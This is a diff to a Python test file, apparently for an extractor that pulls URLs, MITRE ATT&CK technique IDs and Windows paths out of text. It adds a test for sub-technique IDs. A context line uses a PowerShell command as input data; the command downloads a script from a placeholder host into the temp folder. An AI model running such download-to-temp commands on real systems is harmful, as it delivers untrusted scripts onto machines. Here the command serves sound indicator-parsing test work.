@@ -347,6 +347,15 @@ def test_internationalised_names_stay_linear() -> None:
     assert time.process_time() - started < 2.0
 
 
+def test_attack_url_with_a_sub_technique_gives_the_sub_technique() -> None:
+    text = "see https://attack.mitre.org/techniques/T1566/001/ and T1566/001 in prose"
+    assert found(text) == {
+        ("url", "https://attack.mitre.org/techniques/T1566/001/"),
+        ("attack_technique", "T1566.001"),
+        ("attack_technique", "T1566"),
+    }
+
+
 def test_powershell_env_path_keeps_its_prefix() -> None:
     assert ("windows_path", r"$env:TEMP\s.ps1") in found(r"iwr http://x.com/s -o $env:TEMP\s.ps1")
 
